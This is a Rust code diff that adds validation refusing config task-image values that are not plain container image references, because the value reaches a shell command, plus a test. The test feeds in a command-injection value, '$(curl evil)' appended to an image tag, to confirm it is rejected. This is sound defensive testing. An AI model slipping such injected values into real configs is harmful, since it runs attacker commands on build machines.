@@ -5,7 +5,7 @@ use anyhow::{bail, Context};
 use serde::Deserialize;
 
 use crate::model::verification::{parse_bound, Settings};
-use crate::model::{is_gce_image_name, WorkloadManager};
+use crate::model::{is_gce_image_name, is_image_reference, WorkloadManager};
 
 #[derive(Debug, Clone, Deserialize)]
 #[serde(deny_unknown_fields)]
@@ -192,6 +192,16 @@ impl Config {
                     "{key} is {} bytes long, more than the {MAX_VALUE_LENGTH} any value may be: it is \
                      passed on command lines and shown in messages; put the intended value there",
                     value.len()
+                );
+            }
+        }
+        for (key, image) in self.task_images() {
+            // An empty one is allowed: the playbook then skips that cache.
+            if !image.is_empty() && !is_image_reference(image) {
+                bail!(
+                    "{key} {image:?} is not a container image reference: write REPOSITORY[:TAG], e.g. \
+                     determinedai/pytorch-ngc-dev:e960eae (the template passes it to a shell command on the \
+                     build VM, so quotes, spaces, `$` and the like are refused)"
                 );
             }
         }
@@ -397,6 +407,20 @@ pub(crate) mod tests {
         assert!(e.contains("artifactory.download_rate_window_s is 0"), "{e}");
         let e = err(&with("min_download_rate_kib_s = 0"));
         assert!(e.contains("from 1 to 1048576 (default 64)"), "{e}");
+    }
+
+    #[test]
+    fn a_task_image_that_is_not_an_image_reference_is_refused() {
+        let e = err(&EXAMPLE.replace(
+            "determinedai/pytorch-ngc-dev:e960eae",
+            "determinedai/pytorch-ngc-dev:e960eae$(curl evil)",
+        ));
+        assert!(
+            e.contains("image.cuda_task_image \"determinedai/pytorch-ngc-dev:e960eae$(curl evil)\" is not a container image reference"),
+            "{e}"
+        );
+        let empty = EXAMPLE.replace("determinedai/pytorch-ngc-dev:e960eae", "");
+        Config::parse(&empty, "x").expect("an empty task image skips its cache");
     }
 
     #[test]
